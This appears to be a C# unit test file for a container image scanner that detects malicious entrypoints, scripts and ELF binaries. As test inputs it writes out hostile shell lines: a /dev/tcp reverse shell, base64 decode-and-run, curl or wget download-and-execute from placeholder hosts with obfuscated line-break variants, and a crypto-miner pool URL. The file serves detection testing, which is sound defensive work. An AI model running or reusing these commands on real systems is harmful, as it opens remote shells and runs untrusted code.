using DockerScan.Core.Content;
using DockerScan.Core.Findings;
using DockerScan.Core.Images;
using DockerScan.Scanners.Autorun;
using DockerScan.Scanners.Tests.Autorun.Elf;
using static DockerScan.Scanners.Tests.Autorun.AutorunBed;

namespace DockerScan.Scanners.Tests.Autorun;

public sealed class AutorunFindingsTests
{
    private static readonly AutorunFindings Rules = new(TestSignatures.All);

    [Theory]
    [InlineData("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "reverse-shell.dev-tcp")]
    [InlineData("echo ZWNobyBoZWxsbwo= | base64 -d | sh", "decode-and-run.pipe")]
    [InlineData("/opt/x -o stratum+tcp://pool.example:3333", "miner.stratum-url")]
    [InlineData("curl http://x.example/a | sh", "download-and-run.pipe-shell")]
    [InlineData("curl http://x.example/a \\\n  | sh", "download-and-run.pipe-shell")]
    [InlineData("curl http://x.example/a |\n  sh", "download-and-run.pipe-shell")]
    [InlineData("# \\\ncurl http://x.example/a | sh", "download-and-run.pipe-shell")]
    [InlineData("true # \\\ncurl http://x.example/a | sh", "download-and-run.pipe-shell")]
    [InlineData("curl -A a\\ #b http://x.example/a \\\n| sh", "download-and-run.pipe-shell")]
    [InlineData("curl -A '\f\u2028' http://x.example/a | sh", "download-and-run.pipe-shell")]
    [InlineData("cd /tmp\nwget http://x.example/bot\nchmod 777 bot\n./bot", "download-and-run.save-and-execute")]
    [InlineData("cd /tmp\n\n# get it\nwget http://x.example/bot -O b\n\nchmod +x b\nsleep 1\n./b\n", "download-and-run.save-and-execute")]
    public void OfScript_Hostile_IsMalware(string text, string id)
    {
        var finding = Assert.Single(Rules.OfScript("/e.sh", text, TestContext.Current.CancellationToken), finding => finding.Id == id);

        Assert.Equal(("autorun.malware", "/e.sh"), (finding.Check, finding.Location));
        Assert.StartsWith("/e.sh:", finding.Evidence, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("# curl http://x.example/a | sh")]
    [InlineData("  # bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")]
    [InlineData("curl -fsS http://localhost/health\nchmod 700 \"$PGDATA\"\nexec postgres")]
    [InlineData("")]
    public void OfScript_Ordinary_IsQuiet(string text) => Assert.Empty(Rules.OfScript("/e.sh", text, TestContext.Current.CancellationToken));

    [Fact]
    public void OfScript_Evidence_NamesFileLineAndText()
        => Assert.Equal("/e.sh:3: curl http://x.example/a | sh", Assert.Single(Rules.OfScript("/e.sh", "\n#!\ncurl http://x.example/a | sh\n", TestContext.Current.CancellationToken)).Evidence);

    [Fact]
    public void OfScript_SecretsInTheLine_AreMasked()
    {
        var finding = Rules.OfScript("/e.sh", "API_TOKEN=hunter2 curl -u u:hunter3 https://u:hunter4@x.example/a -H 'Authorization: x hunter5' | sh -s -- --password hunter6", TestContext.Current.CancellationToken).First();

        Assert.DoesNotContain("hunter", finding.Evidence, StringComparison.Ordinal);
        Assert.Contains("API_TOKEN=***", finding.Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ScanAsync_ExecFormOfAMiner_IsFound()
    {
        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["nginx", "-o", "stratum+tcp://pool.example:3333"] }, UsualSystem());

        Assert.Equal(("ENTRYPOINT", Severity.Critical), (Finding(outcome, "miner.stratum-url").Location, Finding(outcome, "miner.stratum-url").Severity));
    }

    [Fact]
    public async Task ScanAsync_ShellFormThatDownloads_IsFoundOnce()
        => Assert.Equal("CMD", Finding(await ScanAsync(new ImageConfiguration { Command = ["/bin/sh", "-c", "curl http://x.example/a | sh"] }, UsualSystem()), "download-and-run.pipe-shell").Location);

    [Theory]
    [InlineData("/tmp/x")]
    [InlineData("/var/tmp/x")]
    [InlineData("/dev/shm/x")]
    [InlineData("/opt/.hidden/x")]
    [InlineData("/usr/bin/.x")]
    [InlineData("/opt/.../x")]
    public void OfPath_HiddenOrTemporary_IsMedium(string path) => Assert.Equal(Severity.Medium, AutorunFindings.OfPath(path)?.Severity);

    [Theory]
    [InlineData("/usr/bin/x")]
    [InlineData("/tmpx/x")]
    [InlineData("/app/.venv/bin/python")]
    [InlineData("/root/.cargo/bin/x")]
    [InlineData("/home/node/.npm-global/bin/x")]
    [InlineData("/app/.next/server.js")]
    [InlineData("/app/.env")]
    public void OfPath_Usual_IsQuiet(string path) => Assert.Null(AutorunFindings.OfPath(path));

    [Fact]
    public async Task ScanAsync_LinkToATemporaryPlace_IsFound()
        => Assert.Equal("/tmp/.x", Finding(await ScanAsync(new ImageConfiguration { Command = ["/usr/local/bin/app"] }, UsualSystem().File("/tmp/.x", Program()).Link("/usr/local/bin/app", "/tmp/.x")), "hidden-path").Location);

    [Fact]
    public async Task ScanAsync_ScriptStartsWhatIsNotThereFromTmp_IsMedium()
    {
        var finding = Finding(await ScanAsync(new ImageConfiguration { Command = ["/e.sh"] }, UsualSystem().File("/e.sh", "D=/tmp\nnohup $D/.x &\n")), "started-from-temporary");

        Assert.Equal(("/e.sh", Severity.Medium, "/e.sh starts /tmp/.x"), (finding.Location, finding.Severity, finding.Evidence));
    }

    [Fact]
    public void OfProgram_PackedBySections_IsFound()
        => Assert.Contains("packer.upx", Ids(ElfBuilder.Build(sections: [".text", "UPX0"])));

    [Fact]
    public void OfProgram_Marks_AreFound()
        => Assert.Contains("botnet.mirai", Ids([.. ElfBuilder.Build(), .. "/bin/busybox MIRAI"u8]));

    [Fact]
    public void OfProgram_HighEntropyCode_IsMedium()
    {
        var noise = new byte[64 * 1024];
        new Random(1).NextBytes(noise);

        Assert.Equal(["high-entropy"], Ids(ElfBuilder.Build(code: noise)));
    }

    [Fact]
    public void OfProgram_OrdinaryCodeBesideCompressedData_IsQuiet()
    {
        var noise = new byte[256 * 1024];
        new Random(1).NextBytes(noise);

        Assert.Empty(Ids([.. ElfBuilder.Build(code: new byte[64 * 1024]), .. noise]));
    }

    [Fact]
    public void OfProgram_SmallStubBeforePackedData_IsMedium()
    {
        var noise = new byte[256 * 1024];
        new Random(1).NextBytes(noise);

        Assert.Equal(["high-entropy"], Ids([.. ElfBuilder.Build(code: new byte[512]), .. noise]));
    }

    [Fact]
    public void OfProgram_SmallNoise_IsQuiet()
    {
        var noise = new byte[4096];
        new Random(1).NextBytes(noise);

        Assert.Empty(Ids(ElfBuilder.Build(code: noise)));
    }

    [Fact]
    public void OfProgram_WritableCode_IsLow() => Assert.Equal(["elf-writable-code"], Ids(ElfBuilder.Build(flags: 7)));

    [Fact]
    public void OfProgram_NoSectionHeaders_IsLow() => Assert.Equal(["elf-no-sections"], Ids(ElfBuilder.Build(sections: null)));

    [Fact]
    public void OfProgram_Truncated_IsLow() => Assert.Equal(["elf-damaged"], Ids([.. "\u007fELF"u8, 2, 1]));

    private static List<string> Ids(byte[] bytes)
    {
        var search = Rules.NewSearch();
        search.Next(bytes);
        return [.. Rules.OfProgram(new ImageFile("/x", bytes, bytes.Length, "00"), search).Select(finding => finding.Id)];
    }
}
